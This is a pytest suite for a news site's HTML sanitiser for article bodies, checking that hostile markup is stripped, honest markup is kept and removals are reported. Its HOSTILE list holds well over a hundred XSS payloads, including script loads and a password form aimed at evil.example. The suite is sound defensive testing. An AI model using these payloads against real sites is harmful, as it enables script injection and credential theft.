"""The text of an article: nothing hostile is stored, nothing honest is lost, nothing goes unsaid."""

import re
import time
from html import unescape
from html.parser import HTMLParser

import pytest

from articles.body import (
    ALLOWED,
    CLASSES,
    BodyTooComplex,
    Figure,
    clean_body,
    editor_rules,
    figures,
    place_figures,
    plain_text,
    sanitiser_rules,
    word_count,
)
from articles.body_rules import DISSOLVED, RENAMED

HOSTILE = [
    # Scripts, plainly and in disguise
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\t>",
    "<script>/*</script><img src=x onerror=alert(1)>*/</script>",
    "<script><!--<script></script><img src=x onerror=alert(1)>--></script>",
    "<<script>alert(1)//<</script>",
    "<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script type=module>import('//evil.example')</script>",
    "<script",
    "<p><script>alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<p>&#60;script&#62;alert(1)&#60;/script&#62;</p>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Event handlers
    "<p onclick=alert(1)>a</p>",
    "<p OnMouseOver='alert(1)'>a</p>",
    "<p onclick\n=\nalert(1)>a</p>",
    "<p/onclick=alert(1)>a</p>",
    '<p "onclick=alert(1)">a</p>',
    "<p title='\"' onclick=alert(1) x='\"'>a</p>",
    "<strong onfocus=alert(1) tabindex=1 autofocus>a</strong>",
    "<h2 onpointerrawupdate=alert(1)>a</h2>",
    "<details open ontoggle=alert(1)><summary>a</summary>b</details>",
    "<body onload=alert(1)>a",
    "<html onmouseover=alert(1)>a",
    "<figure data-photo=1 onclick=alert(1)><figcaption onclick=alert(2)>a</figcaption></figure>",
    "<td onclick=alert(1)>a</td>",
    "<table background=javascript:alert(1)><tr><td background=x onclick=1>a</table>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<video onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href=/x onclick=alert(1)>a</a>",
    "<p style='animation-name:x' onanimationstart=alert(1)>a</p>",
    "<x onclick=alert(1)>a</x>",
    "<xss-custom id=x onfocus=alert(1) tabindex=1>a</xss-custom>",
    # Links that run
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href='java\tscript:alert(1)'>a</a>",
    "<a href='java\nscript:alert(1)'>a</a>",
    "<a href='java\r\nscript:alert(1)'>a</a>",
    "<a href=' \x01javascript:alert(1)'>a</a>",
    "<a href='&#1;javascript:alert(1)'>a</a>",
    "<a href='&#x6A;avascript:alert(1)'>a</a>",
    "<a href='&#0000106avascript:alert(1)'>a</a>",
    "<a href='javascript&colon;alert(1)'>a</a>",
    "<a href='java&Tab;script&colon;alert(1)'>a</a>",
    "<a href='java&NewLine;script:alert(1)'>a</a>",
    "<a href='java\u200bscript:alert(1)'>a</a>",
    "<a href='java&#8203;script:alert(1)'>a</a>",
    "<a href='java\u00adscript:alert(1)'>a</a>",
    "<a href='\ufeffjavascript:alert(1)'>a</a>",
    "<a href='java\x00script:alert(1)'>a</a>",
    "<a href='javascript\u0338:alert(1)'>a</a>",
    "<a href='javascript://%0aalert(1)'>a</a>",
    "<a href='javascript:/*https://*/alert(1)'>a</a>",
    "<a href=javascript:alert&lpar;1&rpar;>a</a>",
    "<a href=\"jav&#x0A;ascript:alert('x')\">a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href='VBScript:msgbox(1)'>a</a>",
    "<a href='livescript:x'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>a</a>",
    "<a href='DATA:image/svg+xml,<svg onload=alert(1)>'>a</a>",
    "<a href='file:///etc/passwd'>a</a>",
    "<a href='blob:https://x/1'>a</a>",
    "<a href='filesystem:https://x/1'>a</a>",
    "<a href='view-source:https://x'>a</a>",
    "<a href='ms-word:ofe|u|https://evil.example'>a</a>",
    "<a href='intent://x#Intent;end'>a</a>",
    "<a href='feed:javascript:alert(1)'>a</a>",
    "<a href='//evil.example'>a</a>",
    "<a href='/\\evil.example'>a</a>",
    "<a href='\\\\evil.example'>a</a>",
    "<a href='/\t/evil.example'>a</a>",
    "<a href='\n//evil.example'>a</a>",
    "<a href='https:evil.example'>a</a>",
    "<a href='https:///evil.example'>a</a>",
    "<a href='http:\\\\evil.example'>a</a>",
    "<a href='bai.html'>a</a>",
    "<a href='?x=1'>a</a>",
    "<a href=''>a</a>",
    "<a xlink:href='javascript:alert(1)'>a</a>",
    "<a href='/x' ping='https://evil.example'>a</a>",
    "<a href='/x' target=_blank rel=opener>a</a>",
    "<a href='/x' style='position:fixed;inset:0'>a</a>",
    "<area href=javascript:alert(1)>",
    "<a href='/x\" onclick=\"alert(1)'>a</a>",
    "<a href='/x&quot; onclick=&quot;alert(1)'>a</a>",
    "<a href='/x'><a href='javascript:alert(1)'>a</a></a>",
    # Foreign content and mutation
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><![CDATA[><image href="]]><img src=x onerror=alert(1)>"]]></svg>',
    "<svg><desc><table><style><a title='</style><img src onerror=alert(1)>'>",
    "<svg/onload=alert(1)//",
    "<math><a xlink:href=javascript:alert(1)>a",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=1 src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=1></style></annotation-xml>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<noframes><img src=x onerror=alert(1)></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<select><option><script>alert(1)</script></option></select>",
    "<table><form><input onfocus=alert(1) autofocus></form></table>",
    "<table><td><a href='javascript:alert(1)'>a</table>",
    "<p><b><i></p><img src=x onerror=alert(1)></b></i>",
    # Style
    "<style>@import '//evil.example/x.css'</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>a</p>",
    "<p style='behavior:url(x.htc)'>a</p>",
    '<p style="width:expression(alert(1))">a</p>',
    "<p STYLE='position:fixed'>a</p>",
    "<aside class='box admin' style='display:none'>a</aside>",
    "<p class='correction'>a</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    # Frames, forms, documents
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example>a</iframe>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'><p>a</p></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<portal src=javascript:alert(1)></portal>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=https://evil.example><input name=password><button>a</button></form>",
    "<button formaction=javascript:alert(1)>a</button>",
    "<input type=image src=x onerror=alert(1)>",
    "<input type=hidden accesskey=x onclick=alert(1)>",
    "<isindex action=javascript:alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<label for=x onclick=alert(1)>a</label>",
    "<dialog open onclose=alert(1)>a</dialog>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-",
    "<link rel=import href=//evil.example>",
    "<link rel=prefetch href=//evil.example>",
    # Pictures
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src='x' srcset='//evil.example 1x'>",
    "<img src=https://evil.example/track.gif>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=//evil.example><img src=x onerror=alert(1)></picture>",
    "<figure data-photo=1><img src=x onerror=alert(1)><figcaption>a</figcaption></figure>",
    "<figure data-photo='1\" onclick=\"alert(1)'><figcaption>a</figcaption></figure>",
    "<figure data-photo='<script>'><figcaption>a<script>1</script></figcaption></figure>",
    "<figure data-photo=-1><figcaption>a</figcaption></figure>",
    "<figure data-photo='1 or 1=1'><figcaption>a</figcaption></figure>",
    "<figure data-photo=\u0661\u0662><figcaption>a</figcaption></figure>",
    "<figure data-photo=99999999999999999999><figcaption>a</figcaption></figure>",
    "<figure data-photo=1><figure data-photo=2><figcaption>a</figcaption></figure></figure>",
    "<figure data-photo=1><figcaption><iframe src=x></iframe></figcaption></figure>",
    "<figcaption onclick=alert(1)>a</figcaption>",
    # Comments and other markup that is not elements
    "<!-- a --><p>b</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![if IE]><script>alert(1)</script><![endif]>",
    "<!--><script>alert(1)</script>-->",
    "<!--->x<script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><p>a</p>",
    "<?php echo 1 ?><p>a</p>",
    "<!DOCTYPE html [<!ENTITY x 'alert(1)'>]><p>&x;</p>",
    "<!ELEMENT p><p>a</p>",
    "</><img src=x onerror=alert(1)>",
    "</p onclick=alert(1)>",
    "<%<img src=x onerror=alert(1)>%>",
    "<p><!--",
    '<p title="',
    "<p <img src=x onerror=alert(1)>",
    '<a href="/x">a<b',
    # Characters
    "a\x00b",
    "<p>&#0;a&#x0;</p>",
    "<p>&#1;&#x1f;&#x7f;&#xfffe;</p>",
    "<p>\ud83d a</p>",
    "<p>&#xd800;a</p>",
    "<a href='&#" + "1" * 5000 + ";'>a</a>",
    "<p>\u202ealert(1)</p>",
    "<p\u0338 onclick=alert(1)>a</p>",
    "<p>\u0338a</p>",
    "<strong>&#x338;a</strong>",
    "<p\u00a0onclick=alert(1)>a</p>",
    "<p\x0bonclick=alert(1)>a</p>",
    "<p\x0conclick=alert(1)>a</p>",
    "<p onclick&#61;alert(1)>a</p>",
    # Broken nesting
    "<ul><p><li><ul><table><li>a</ul></table><img src=x onerror=1>",
    "<table><tr><td><table><caption><p><table><script>1</script>a</table>",
    "<a href=/x><table><a href=javascript:1><td>a</a></table>",
    "<b><p><table><b><td></b><i>a</table></p></b></i>",
    "<dl><dt><dl><dd><h2><li><blockquote><cite><figure data-photo=1>a",
    "<h2><h3><p><aside><aside class=x><figcaption>a<td>b",
    "<li><td><dd><figcaption><cite><caption>a",
]

URL_ATTRIBUTES = {"href"}
SAFE_HREF = re.compile(r"https?://[^/\\]|mailto:|tel:|/(?![/\\])|#")


class Reader(HTMLParser):
    """A parser that knows nothing of ours, to look at what came out."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.text = ""
        self.other = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html):
    reader = Reader(html)
    assert not reader.other
    for tag, attributes in reader.elements:
        assert tag in ALLOWED
        own = dict(attributes)
        if tag == "a":
            assert own.pop("rel") == "noopener noreferrer"
            assert SAFE_HREF.match(own["href"])
            assert not re.search(r"[\x00-\x1f\x7f]", own["href"])
        if tag in CLASSES:
            assert own.pop("class") in CLASSES[tag]
        if tag == "figure":
            assert re.fullmatch(r"[0-9]+", own["data-photo"])
        assert own.keys() <= ALLOWED[tag]


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_survives(html):
    assert_harmless(clean_body(html).html)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_survives_in_the_middle_of_a_text(html):
    assert_harmless(clean_body(f"<p>Trước <b>đậm {html} sau</b></p><p>cuối</p>").html)


@pytest.mark.parametrize("html", HOSTILE)
def test_cleaning_twice_changes_nothing_and_reports_nothing(html):
    once = clean_body(html).html

    twice = clean_body(once)

    assert twice.html == once
    assert twice.removed == ()


def test_the_vectors_are_many():
    assert len(set(HOSTILE)) >= 120


# --- One list of rules ----------------------------------------------------------------------


def editor_list():
    """The editor's rules read back: tag -> (classes, attributes)."""
    rules = {}
    for rule in editor_rules().split("; "):
        found = re.fullmatch(r"(\w+)(?:\(([\w,-]+)\))?(?:\[([\w,-]+)\])?", rule)
        assert found, rule
        rules[found[1]] = tuple(
            set(names.split(",")) if names else set() for names in found.groups()[1:]
        )
    return rules


def test_the_editor_and_the_sanitiser_allow_the_same_tags():
    kept = sanitiser_rules()["tags"] - RENAMED.keys() - DISSOLVED

    assert kept == editor_list().keys() == ALLOWED.keys()


def test_what_the_sanitiser_reads_besides_is_never_written():
    assert not (RENAMED.keys() | DISSOLVED) & ALLOWED.keys()
    assert set(RENAMED.values()) <= ALLOWED.keys()


@pytest.mark.parametrize("tag", sorted(ALLOWED))
def test_the_editor_and_the_sanitiser_allow_the_same_attributes_and_classes(tag):
    classes, attributes = editor_list()[tag]
    rules = sanitiser_rules()

    assert rules["attributes"].get(tag, set()) == attributes
    assert rules["allowed_classes"].get(tag, set()) == classes


def test_no_attribute_is_allowed_everywhere():
    assert sanitiser_rules()["attributes"]["*"] == set()


def test_style_is_allowed_nowhere():
    assert all("style" not in attributes for attributes in ALLOWED.values())


# --- What is honest stays -------------------------------------------------------------------

HONEST = [
    "<p>Ruộng <strong>đã gặt</strong>, <em>nước</em> lên H<sub>2</sub>O m<sup>2</sup>.</p>",
    "<p>Một dòng<br>và một dòng</p>",
    "<h2>Tít xen</h2>\n<p>Chữ</p>\n<h3>Tít nhỏ</h3>\n<p>Chữ</p>",
    '<p><a href="https://bao.example/a?b=1&amp;c=2#d" rel="noopener noreferrer">a</a></p>',
    '<p><a href="mailto:toasoan@bao.example" rel="noopener noreferrer">thư</a></p>',
    '<p><a href="tel:+840000001" rel="noopener noreferrer">gọi</a></p>',
    '<p><a href="/kinh-te/" rel="noopener noreferrer">mục</a></p>',
    '<p><a href="#chu-thich" rel="noopener noreferrer">1</a></p>',
    "<ul><li>một</li><li>hai<ol><li>ba</li></ol></li></ul>",
    "<blockquote><p>Đất nó thở.</p><cite>Trưởng ấp</cite></blockquote>",
    '<figure data-photo="12"><figcaption>Chú <em>thích</em></figcaption></figure>',
    '<figure data-photo="0"><figcaption>Chờ ảnh</figcaption></figure>',
    '<figure data-photo="7"><figcaption></figcaption></figure>',
    '<aside class="box"><h3>Hai cách làm</h3><p>a</p><dl><dt>3 vụ</dt><dd>lãi</dd></dl></aside>',
    '<table><caption>Giá lúa</caption><thead><tr><th scope="col">Loại</th></tr></thead>'
    '<tbody><tr><td colspan="2">a</td><td></td></tr></tbody></table>',
    '<p>2 &lt; 3 &amp; 4 &gt; 3, “ngoặc” "thẳng"</p>',
    "<p>10&nbsp;km</p>",
    "",
]


@pytest.mark.parametrize("html", HONEST)
def test_what_the_page_knows_is_kept_as_it_is(html):
    cleaned = clean_body(html)

    assert cleaned.html == html
    assert cleaned.removed == ()


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("Chữ trần", "<p>Chữ trần</p>"),
        ("một<div>hai</div>ba", "<p>một</p>\n<p>hai</p>\n<p>ba</p>"),
        ("<div><div><p>a</p></div>b</div>", "<p>a</p>\n<p>b</p>"),
        ("<b>a</b> <i>b</i>", "<p><strong>a</strong> <em>b</em></p>"),
        ("<b><strong>a</strong></b>", "<p><strong>a</strong></p>"),
        ("<h1>a</h1><h4>b</h4>", "<h2>a</h2>\n<h3>b</h3>"),
        ("<h2>a<p>b<p>c", "<h2>a</h2>\n<p>b</p>\n<p>c</p>"),
        ("<p>a</p>\r\n<p>&nbsp;</p><p><br></p><p> </p>", "<p>a</p>"),
        ("<p>&nbsp; a&nbsp;<br></p>", "<p>a</p>"),
        ("<p><iframe src=x></iframe></p><p>a</p>", "<p>a</p>"),
        ("<p>a<strong></strong><em> </em>b</p>", "<p>a b</p>"),
        ("<p><span style=''>a</span><font>b</font><o:p>c</o:p></p>", "<p>abc</p>"),
        (
            "<ul><li><p>a</p></li> <ul><li>b</li></ul></ul>",
            "<ul><li>a<ul><li>b</li></ul></li></ul>",
        ),
        ("<ul>a</ul><ol></ol>", "<ul><li>a</li></ul>"),
        ("<aside>a</aside>", '<aside class="box"><p>a</p></aside>'),
        ("<dl><div><dt>a</dt><dd>b</dd></div></dl>", "<dl><dt>a</dt><dd>b</dd></dl>"),
        ("<table><tr><td colspan=0 rowspan=9999>a</table>",)
        + ("<table><tbody><tr><td>a</td></tr></tbody></table>",),
        ("<strong>a<p>b</p></strong>", "<p>a</p>\n<p>b</p>"),
        ("<a name=_GoBack></a><p>a</p>", "<p>a</p>"),
    ],
)
def test_what_the_page_does_not_know_becomes_what_it_knows(typed, stored):
    assert clean_body(typed).html == stored


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        (
            "<p>a<figure data-photo=7><img src=/x.jpg><figcaption>b</figcaption></figure>",
            '<p>a</p>\n<figure data-photo="7"><figcaption>b</figcaption></figure>',
        ),
        (
            "<figure data-photo='007'>b</figure>",
            '<figure data-photo="7"><figcaption>b</figcaption></figure>',
        ),
        (
            "<figure data-photo=7></figure>",
            '<figure data-photo="7"><figcaption></figcaption></figure>',
        ),
        (
            "<figure data-photo=7><figcaption><p>a</p><p>b</p></figcaption></figure>",
            '<figure data-photo="7"><figcaption>a  b</figcaption></figure>',
        ),
        (
            "<figure data-photo=7><figcaption>a</figcaption><figcaption>b</figcaption></figure>",
            '<figure data-photo="7"><figcaption>a  b</figcaption></figure>',
        ),
        (
            "<figure data-photo=7><figcaption>a</figcaption><p>thân bài",
            '<figure data-photo="7"><figcaption>a</figcaption></figure>\n<p>thân bài</p>',
        ),
        (
            "<figure data-photo=7><figure data-photo=8><figcaption>a</figcaption></figure>",
            '<figure data-photo="7"><figcaption></figcaption></figure>\n'
            '<figure data-photo="8"><figcaption>a</figcaption></figure>',
        ),
        ("<figure data-photo=x><figcaption>a <b>b</b></figcaption></figure>",)
        + ("<p>a <strong>b</strong></p>",),
        ("<figure><img src=x></figure>", ""),
        ("<img src=x>", ""),
    ],
)
def test_a_figure_is_a_number_and_one_caption(typed, stored):
    assert clean_body(typed).html == stored


@pytest.mark.parametrize(
    "html",
    [
        "<u>giữ</u> <s>chữ</s>",
        "<form><p>giữ</p> <label>chữ</label></form>",
        "<a href='javascript:x'>giữ</a> chữ",
        "<figure><figcaption>giữ chữ</figcaption></figure>",
        "<table>giữ<tr><td>chữ</td></tr></table>",
        "<svg><text>giữ</text></svg> chữ",
        "<details><summary>giữ</summary>chữ</details>",
        "<caption>giữ <td>chữ",
    ],
)
def test_the_words_are_kept(html):
    assert plain_text(clean_body(html).html).split() == ["giữ", "chữ"]


def test_text_is_stored_in_its_normal_form():
    assert (
        clean_body("<p>Đa\u0302\u0301t\u200b \u00d0o\u0302\u0300ng</p>").html == "<p>Đất Đồng</p>"
    )


def test_entities_cannot_bring_back_what_normalising_took_out():
    assert clean_body("<p>a&#8203;b&#xfeff;c e&#770;</p>").html == "<p>abc ê</p>"


# --- What was taken out is said -------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "sentence"),
    [
        ("<script>a</script><script>b</script>", "2 × <script>"),
        ("<p><iframe src=x></iframe></p>", "1 × <iframe>"),
        ("<p onclick=a>a</p>", "1 × onclick (a hidden action)"),
        ("<a href=javascript:x>a</a>", "a link to javascript:"),
        ("<img src=x><img src=y>", "2 pictures that are not from the photo library"),
        (
            "<figure data-photo=x><figcaption>a</figcaption></figure>",
            "a figure without a photo from the library (its words are kept)",
        ),
        (
            "<p style='color:red'>a</p>",
            "a piece of formatting of its own (colour, size, alignment)",
        ),
        (
            "<a href=www.bao.example>a</a>",
            "a link to “www.bao.example”, which is no complete address (begin it with https://)",
        ),
        ("<a href=java&Tab;script:x>a</a><a href=JAVASCRIPT:y>a</a>", "2 links to javascript:"),
        ("<u>a</u>", "1 × <u>"),
        ("<p id=x>a</p>", "1 × id="),
        ("<form><p>a</p></form>", "1 × <form>"),
        ("<svg><path/><path/></svg>", "1 × <svg>"),
    ],
)
def test_what_is_removed_is_said(html, sentence):
    assert clean_body(html).removed == (sentence,)


def test_what_is_removed_is_said_in_vietnamese_or_in_any_language(settings):
    settings.USE_I18N = True
    assert all(isinstance(sentence, str) for sentence in clean_body("<script>").removed)


@pytest.mark.parametrize(
    "html",
    [
        "<p>a</p><p>&nbsp;</p>\r\n\r\n",
        "<div><span lang=vi class=MsoNormal>a</span></div>",
        "<b>a</b><i>b</i>",
        "<p align=center dir=ltr>a</p>",
        "<a target=_blank rel=nofollow href=/x>a</a>",
        "<!-- ghi chú -->a",
        "<o:p></o:p>",
        "<figure data-photo=5><img src=/x.jpg alt=a><figcaption>a</figcaption></figure>",
        "<p>a\u200bb</p>",
    ],
)
def test_mere_tidying_is_not_reported(html):
    assert clean_body(html).removed == ()


def test_a_page_full_of_refused_things_gives_a_short_report():
    removed = clean_body("".join(f"<x{n}>" for n in range(90))).removed

    assert len(removed) == 13
    assert removed[-1] == "78 other things"


# --- The guard ------------------------------------------------------------------------------

TOO_MUCH = {
    "nested": "<div>" * 10_000,
    "lists": "<ul><li>" * 40_000,
    "bold": "".join(f"<b id={n}>" for n in range(20_000)),
    "hidden ends": "".join(f"<b id={n}><!--</b>-->" for n in range(9_000)),
    "ends in scripts": "".join(f"<b id={n}><script></b></script>" for n in range(9_000)),
    "ends in attributes": "".join(f"<b id={n}><br x='</b>'>" for n in range(9_000)),
    "ends in cells": "".join(f"<b id={n}><table><td></b></table>" for n in range(5_000)),
    "foreign": "<svg><style>" + "".join(f"<b id={n}>" for n in range(9_000)),
    "reopened": "<p>" + "".join(f"<b id={n}>" for n in range(90)) + "x</p>" + "<p>y" * 9_000,
    "tags": "<p>a</p>" * 20_001,
    "ends": "</p>" * 100_000,
    "long": "a" * 400_001,
    "long once written": "&" * 390_000,
    "long in bytes": "ữ" * 200_000,
}


@pytest.mark.parametrize("html", TOO_MUCH.values(), ids=TOO_MUCH)
def test_what_would_take_too_long_is_refused_quickly(html):
    started = time.process_time()

    with pytest.raises(BodyTooComplex):
        clean_body(html)

    assert time.process_time() - started < 1


NOT_TOO_MUCH = {
    "many paragraphs": "<p>abc</p>" * 9_900,
    "a long table": "<table><tr>" + "<td>x" * 5_000,
    "open paragraphs": "<p>abc " * 9_900,
    "a hundred lists": "<ul><li>" * 99 + "<li>x" * 9_000,
    "a deep page": "<div>" * 99 + "x",
    "open comments": "<!--" * 90_000,
    "open quotes": '<a "' * 90_000,
    "blanks in a tag": "<a b" + " " * 390_000 + ">",
    "marks on a letter": "a" + "\u0301" * 190_000,
    "an honest long read": ("<p>" + "chữ nghĩa <strong>đậm</strong> " * 60 + "</p>") * 100,
}


@pytest.mark.parametrize("html", NOT_TOO_MUCH.values(), ids=NOT_TOO_MUCH)
def test_what_is_accepted_is_cleaned_quickly(html):
    started = time.process_time()

    assert_harmless(clean_body(html).html)

    assert time.process_time() - started < 3


def test_a_refusal_gives_the_figure_and_the_limit():
    with pytest.raises(BodyTooComplex, match=r"500 kB.*400 kB"):
        clean_body("a" * 500_000)


# --- Reading a clean text -------------------------------------------------------------------


def test_figures_come_in_order():
    html = clean_body(
        "<figure data-photo=3><figcaption>a <b>b</b></figcaption></figure><p>c</p>"
        "<ul><li><figure data-photo=0><figcaption>d</figcaption></figure></ul>"
    ).html

    assert figures(html) == [Figure(3, "a <strong>b</strong>"), Figure(0, "d")]


def test_each_figure_is_replaced_by_what_is_made_of_it():
    html = clean_body("<p>a</p><figure data-photo=3>b</figure><p>\\1</p>").html

    placed = place_figures(html, lambda figure: f"<img alt='\\1 {figure.caption_html}'>")

    assert placed == "<p>a</p>\n<img alt='\\1 b'>\n<p>\\1</p>"


def test_words_that_look_like_a_figure_are_no_figure():
    html = clean_body(
        '<p>&lt;figure data-photo="1"&gt;&lt;figcaption&gt;a&lt;/figcaption&gt;&lt;/figure&gt;</p>'
    ).html

    assert figures(html) == []


def test_plain_text_has_a_line_for_each_block():
    html = clean_body(
        "<h2>Tít</h2><p>Một <b>hai</b><br>ba &amp; bốn</p><ul><li>năm<li>sáu</ul>"
        "<table><tr><td>bảy<td>tám</table>"
    ).html

    assert plain_text(html) == "Tít\nMột hai\nba & bốn\nnăm\nsáu\nbảy tám"


def test_plain_text_reads_a_caption_alone():
    assert plain_text("a <strong>b</strong>&nbsp;c") == "a b c"


def test_words_are_counted_by_syllable():
    assert word_count("Xuân Trường hôm nay\n  mưa") == 5


def test_unescaped_text_is_what_was_typed():
    assert plain_text(clean_body("<p>&lt;b&gt; &amp;amp;</p>").html) == unescape(
        "&lt;b&gt; &amp;amp;"
    )
